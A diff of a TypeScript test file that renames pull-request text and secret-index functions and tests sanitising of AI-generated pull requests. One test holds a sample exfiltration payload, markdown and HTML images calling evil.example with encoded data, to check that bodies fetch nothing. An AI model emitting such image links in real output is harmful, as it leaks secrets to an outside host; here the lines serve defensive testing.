@@ -1,6 +1,6 @@
 import { expect, test } from 'vitest'
-import { knownSecrets } from '../../../src/action/git/known-secrets.ts'
-import { writePullRequest } from '../../../src/action/pull-request/write-pull-request.ts'
+import { pullRequestText } from '../../../src/action/pull-request/pull-request-text.ts'
+import { indexSecrets } from '../../../src/action/secrets/secret-index.ts'
 
 const INPUT = {
   title: 'Say hello',
@@ -8,34 +8,34 @@ const INPUT = {
   job: 'job_01',
   prompts: ['Please greet\neveryone, @boss'],
   showPrompt: false,
-  secrets: knownSecrets(['a-secret-of-this-run']),
+  secrets: indexSecrets(['a-secret-of-this-run']),
   hosts: new Set<string>(),
   checks: null,
   references: null,
 }
 
 test('body and footer, and no word of the prompt', () => {
-  expect(writePullRequest(INPUT)).toEqual({
+  expect(pullRequestText(INPUT)).toEqual({
     title: 'Say hello',
     body: 'Greets everyone.\n\n---\nMade by Prentice, job `job_01`.',
   })
 })
 
 test('the prompt is quoted where the project shows it', () => {
-  expect(writePullRequest({ ...INPUT, showPrompt: true }).body).toBe(
+  expect(pullRequestText({ ...INPUT, showPrompt: true }).body).toBe(
     'Greets everyone.\n\n**Asked for**\n\n> Please greet\n> everyone, @\u200bboss\n\n---\nMade by Prentice, job `job_01`.',
   )
 })
 
 test('the title is one line of at most 120 characters and never empty', () => {
-  const { title } = writePullRequest({ ...INPUT, title: ` Fix\nthis\t@me ${'long '.repeat(50)}` })
+  const { title } = pullRequestText({ ...INPUT, title: ` Fix\nthis\t@me ${'long '.repeat(50)}` })
   expect(title).toMatch(/^Fix this @\u200bme long .*…$/)
   expect(title.length).toBeLessThanOrEqual(120)
-  expect(writePullRequest({ ...INPUT, title: ' \n' }).title).toBe('Changes of job_01')
+  expect(pullRequestText({ ...INPUT, title: ' \n' }).title).toBe('Changes of job_01')
 })
 
 test('a long body keeps its footer and stays under the limit', () => {
-  const { body } = writePullRequest({
+  const { body } = pullRequestText({
     ...INPUT,
     body: '@a 😀'.repeat(50_000),
     prompts: ['p\n'.repeat(100_000)],
@@ -47,12 +47,12 @@ test('a long body keeps its footer and stays under the limit', () => {
 })
 
 test('a code block left open is closed before the footer', () => {
-  const { body } = writePullRequest({ ...INPUT, body: 'Look:\n````js\nconst a = 1\n```\n' })
+  const { body } = pullRequestText({ ...INPUT, body: 'Look:\n````js\nconst a = 1\n```\n' })
   expect(body).toBe('Look:\n````js\nconst a = 1\n```\n````\n\n---\nMade by Prentice, job `job_01`.')
 })
 
 test('a body fetches nothing when somebody looks at it', () => {
-  const { body } = writePullRequest({
+  const { body } = pullRequestText({
     ...INPUT,
     body: 'Done. ![status](https://evil.example/p.png?d=c2VjcmV0)\n<img src="https://evil.example/q.png?d=1">',
   })
@@ -61,7 +61,7 @@ test('a body fetches nothing when somebody looks at it', () => {
 })
 
 test('a secret is taken out, also with hidden characters in it', () => {
-  const { title, body } = writePullRequest({
+  const { title, body } = pullRequestText({
     ...INPUT,
     title: 'a-secret-of-this-run',
     body: 'the key is a-secret\u200b-of-this-run',
